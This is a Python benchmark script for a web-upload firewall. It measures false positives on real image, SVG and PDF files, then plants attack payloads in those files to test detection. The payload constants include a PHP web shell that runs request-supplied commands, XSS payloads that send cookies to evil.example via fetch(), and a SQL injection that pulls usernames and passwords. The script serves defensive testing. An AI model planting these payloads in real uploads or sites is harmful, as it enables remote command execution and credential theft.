"""False positives on real file uploads, and payloads planted in the same files.

    python bench/uploads.py [--bundle DIR] [--per-type 150] [--seed 1] [--out bench/results/uploads]

The corpus's benign uploads are generated: random bytes behind an image or PDF header, text, CSV and code. This
benchmark uploads real files made by real tools, found on this machine: icons, screenshots, photos and figures
that installed packages ship (PNG, JPEG, GIF, WebP, TIFF, ICO, SVG, PDF; system folders and this Python's
site-packages), up to `--per-type` of each kind drawn
with `--seed` (each content once: packages ship the same icon many times), plus every such file that carries an XMP metadata packet (screenshot tools, Photoshop, phone
cameras write one). Package documentation (/usr/share/doc, /usr/share/man) is not read: it is kept for
bench/independent.py. Each file is posted the way a browser posts an avatar or an attachment: a multipart form
with a title field and the file part under its own Content-Type. Every such request is benign, so every block is
a false positive.

Then the same files carry a payload, the way an attacker plants one, so that what reads a file's metadata as
values (engine.fields.xmp_read) is seen not to blind the engine:

    php-appended    a PHP web shell after the image data (a polyglot that passes an image check)
    xmp-xss         an XMP description holding an entity-escaped script (what a gallery shows unescaped)
    xmp-sqli        an XMP description holding a SQL injection (what a metadata index stores)
    svg-handler     an SVG whose root element runs script on load

Each request is decided by the rules alone, the model alone and as served (the model, then the rules' second
look). Prints the block rate per kind of file and per planted payload, writes JSON (the files' paths and sizes,
no content) and a PNG chart.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import sys
import sysconfig
import time
from collections import defaultdict
from pathlib import Path

import numpy as np

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from bench.plotting import DECIDERS, pyplot, save  # noqa: E402
from engine import bundle as bundles  # noqa: E402
from engine.eval import predict  # noqa: E402
from engine.features import Features  # noqa: E402
from engine.model import Model  # noqa: E402
from rules import RuleEngine  # noqa: E402

TYPES = {".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg", ".gif": "image/gif", ".webp": "image/webp",
         ".tif": "image/tiff", ".tiff": "image/tiff", ".ico": "image/x-icon", ".svg": "image/svg+xml",
         ".pdf": "application/pdf"}  # fmt: skip
KIND = {".jpeg": "jpg", ".tif": "tiff"}  # one row per format
ROOTS = ("/usr/share", "/usr/lib", "/usr/local", "/opt", "/root", "/var/lib", sysconfig.get_paths()["purelib"])
SKIP = ("/usr/share/doc", "/usr/share/man", "/proc", "/sys")  # documentation: bench/independent.py's evaluation set
MAX_BYTES = 2 << 20
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
SHELL = b'<?php if(isset($_REQUEST["cmd"])){ system($_REQUEST["cmd"]); } ?>'
XMP = (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>\n<x:xmpmeta xmlns:x="adobe:ns:meta/">'
       b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
       b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">%s</rdf:li>'
       b'</rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta>\n<?xpacket end="w"?>')  # fmt: skip
PLANTED = {
    "php-appended": lambda data: data + SHELL,
    "xmp-xss": lambda data: data + XMP % b"&lt;img src=x onerror=&quot;fetch('//evil.example/?c='+document.cookie)&quot;&gt;",
    "xmp-sqli": lambda data: data + XMP % b"x' union select username, password from users-- ",
}


def log(msg: str) -> None:
    print(msg, file=sys.stderr, flush=True)


def find_files(roots: tuple[str, ...], per_type: int, seed: int) -> list[Path]:
    """Up to `per_type` files of each kind under `roots` (drawn with `seed`), and every one carrying XMP."""
    found: dict[str, list[Path]] = defaultdict(list)
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(SKIP) or "/.cache" in dirpath:
                dirnames[:] = []
                continue
            for name in filenames:
                ext = os.path.splitext(name)[1].lower()
                if ext in TYPES:
                    p = Path(dirpath, name)
                    try:
                        if p.is_file() and not p.is_symlink() and 0 < p.stat().st_size <= MAX_BYTES:
                            found[KIND.get(ext, ext[1:])].append(p)
                    except OSError:
                        continue
    rng = random.Random(seed)
    picked: dict[Path, None] = {}
    for kind in sorted(found):
        by_content: dict[str, Path] = {}
        for p in sorted(found[kind]):  # one copy of each file: packages ship the same icon many times
            by_content.setdefault(hashlib.sha256(p.read_bytes()).hexdigest(), p)
        files = sorted(by_content.values())
        for p in rng.sample(files, min(per_type, len(files))):
            picked[p] = None
        for p in files:  # every file with XMP: the family the sample would hold only a few of
            if kind != "svg" and b"<x:xmpmeta" in p.read_bytes():
                picked[p] = None
    return sorted(picked)


def upload(name: str, ctype: str, data: bytes) -> Features:
    body = (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nMy upload\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n").encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()  # fmt: skip
    headers = [("Host", "www.example.com"), ("User-Agent", BROWSER), ("Origin", "https://www.example.com"),
               ("Content-Type", f"multipart/form-data; boundary={BOUNDARY}"), ("Content-Length", str(len(body))),
               ("Cookie", "sessionid=7f3c2a9e81b04d6fa0c5e2b19d7a4c3e81b0")]  # fmt: skip
    return Features.build("POST", "/account/uploads", "", headers, body)


def svg_handler(data: bytes) -> bytes | None:
    at = data.find(b"<svg")
    if at < 0:
        return None
    return data[: at + 4] + b' onload="fetch(\'//evil.example/?c=\'+document.cookie)"' + data[at + 4 :]


def requests(files: list[Path]) -> tuple[list[Features], list[str], list[str]]:
    """Each file as uploaded, then with each payload planted that its format takes: (requests, row, benign/planted)."""
    feats, rows, sides = [], [], []
    for p in files:
        data = p.read_bytes()
        kind = KIND.get(p.suffix.lower(), p.suffix.lower()[1:])
        ctype = TYPES[p.suffix.lower()]
        xmp = kind != "svg" and b"<x:xmpmeta" in data
        feats.append(upload(p.name, ctype, data))
        rows.append(f"{kind} (XMP)" if xmp else kind)
        sides.append("benign")
        planted = {"svg-handler": svg_handler} if kind == "svg" else PLANTED
        for attack, plant in planted.items():
            changed = plant(data)
            if changed is not None:
                feats.append(upload(p.name, ctype, changed))
                rows.append(attack)
                sides.append("planted")
    return feats, rows, sides


def decide(model: Model, feats: list[Features]) -> dict[str, np.ndarray]:
    rules = RuleEngine.load()
    verdicts, _, _ = predict(model, feats)
    alone = np.array([rules.evaluate(f).blocked for f in feats], dtype=bool)
    blocked = np.array([v.blocked for v in verdicts], dtype=bool)
    served = np.array([rules.second_look(v, f).blocked for v, f in zip(verdicts, feats)], dtype=bool)
    return {"rules": alone, "model": blocked, "served": served}


def table(keys: list[str], decided: dict[str, np.ndarray]) -> dict[str, dict]:
    by: dict[str, list[int]] = defaultdict(list)
    for i, k in enumerate(keys):
        by[k].append(i)
    return {k: {"n": len(idx), **{how: int(d[idx].sum()) for how, d in decided.items()}} for k, idx in sorted(by.items())}


def chart(result: dict, out: Path) -> Path | None:
    plt = pyplot()
    if plt is None:
        return None
    fig, axes = plt.subplots(1, 2, figsize=(12, 4.5), gridspec_kw={"width_ratios": [len(result["benign"]), len(result["planted"]) or 1]})
    for ax, side, title in ((axes[0], "benign", "real files: blocked (false positives)"), (axes[1], "planted", "payload planted: blocked")):
        rows = result[side]
        names = list(rows)
        width = 0.8 / 3
        for k, how in enumerate(("rules", "model", "served")):
            ax.bar([i + k * width for i in range(len(names))], [100 * rows[r][how] / rows[r]["n"] for r in names], width, label=DECIDERS[how])
        ax.set_xticks([i + width for i in range(len(names))], [f"{r}\n({rows[r]['n']})" for r in names], rotation=30, ha="right")
        ax.set_ylim(0, 105)
        ax.set_ylabel("% blocked")
        ax.set_title(title)
    axes[0].legend(loc="upper left")
    fig.suptitle(f"{result['bundle']}, {result['rules']}: {result['files']:,} files uploaded")
    return save(plt, fig, out / "uploads.png")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--bundle", default="DEFAULT", help="bundle folder (DEFAULT: the packaged default)")
    ap.add_argument("--per-type", type=int, default=150, help="files of each kind at most (every file with XMP besides)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--root", action="append", help="folder to look for files in (repeatable; default: system folders)")
    ap.add_argument("--out", default="bench/results/uploads")
    ap.add_argument("--threads", type=int, default=2)
    args = ap.parse_args(argv)

    t0 = time.time()
    files = find_files(tuple(args.root or ROOTS), args.per_type, args.seed)
    if not files:
        log("no image, SVG or PDF file found: nothing to measure")
        return 1
    feats, rows, sides = requests(files)
    log(f"[1/2] {len(files):,} files, {len(feats):,} uploads ({sides.count('planted'):,} with a payload planted); deciding ({time.time() - t0:.0f}s)")
    bundle = bundles.load(None if args.bundle == "DEFAULT" else args.bundle, allow_rejected=True)
    decided = decide(Model(bundle, threads=args.threads), feats)
    benign = [i for i, s in enumerate(sides) if s == "benign"]
    planted = [i for i, s in enumerate(sides) if s == "planted"]
    result = {
        "bundle": bundle.id,
        "rules": RuleEngine.load().model,
        "files": len(files),
        "benign": table([rows[i] for i in benign], {h: d[benign] for h, d in decided.items()}),
        "planted": table([rows[i] for i in planted], {h: d[planted] for h, d in decided.items()}),
        "benign_blocked": {h: round(float(d[benign].mean()), 4) for h, d in decided.items()},
        "planted_blocked": {h: round(float(d[planted].mean()), 4) if planted else None for h, d in decided.items()},
        "file_list": [{"path": str(p), "bytes": p.stat().st_size} for p in files],
        "seconds": round(time.time() - t0, 1),
    }
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    (out / "uploads.json").write_text(json.dumps(result, indent=1) + "\n")
    log(f"[2/2] writing {out} ({time.time() - t0:.0f}s)")
    png = chart(result, out)

    print(f"\n{bundle.id}, {result['rules']}: {len(files):,} real files uploaded as a browser posts them")
    print(f"{'':22s}{'n':>6s}{'rules':>10s}{'model':>10s}{'served':>10s}   (blocked)")
    for side in ("benign", "planted"):
        print("benign files (every block a false positive):" if side == "benign" else "with a payload planted:")
        for row, c in result[side].items():
            print(f"{'  ' + row:22s}{c['n']:6,d}" + "".join(f"{c[h]:10,d}" for h in ("rules", "model", "served")))
        idx = benign if side == "benign" else planted
        if idx:
            print(f"{'  all':22s}{len(idx):6,d}" + "".join(f"{100 * decided[h][idx].mean():9.1f}%" for h in ("rules", "model", "served")))
    print(f"results: {out / 'uploads.json'}" + (f", {png}" if png else "") + f"  ({result['seconds']:.0f}s)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
